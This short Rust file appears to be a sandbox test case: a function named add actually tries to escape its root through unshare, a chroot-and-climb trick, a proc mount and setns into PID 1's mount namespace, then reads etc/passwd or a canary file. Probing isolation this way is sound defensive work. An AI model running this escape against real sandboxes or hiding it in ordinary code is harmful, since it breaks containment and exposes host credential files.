// Tries: leave the root by chroot, mounts, namespaces and file handles
// Kind: host

extern "C" {
    fn chroot(path: *const i8) -> i32;
    fn unshare(flags: i32) -> i32;
    fn mount(source: *const i8, target: *const i8, kind: *const i8, flags: u64, data: *const u8) -> i32;
    fn setns(descriptor: i32, kind: i32) -> i32;
    fn open(path: *const i8, flags: i32) -> i32;
}

pub fn add(_: i64, _: i64) -> String {
    unsafe {
        unshare(0x1000_0000);
        unshare(0x0002_0000);
        chroot(c".".as_ptr());
        (0..64).for_each(|_| { let _ = std::env::set_current_dir(".."); });
        chroot(c".".as_ptr());
        mount(c"proc".as_ptr(), c"/".as_ptr(), c"proc".as_ptr(), 0, std::ptr::null());
        setns(open(c"/proc/1/ns/mnt".as_ptr(), 0), 0);
    }
    std::fs::read_to_string("etc/passwd").or_else(|_| std::fs::read_to_string("@CANARY@")).unwrap_or_default()
}
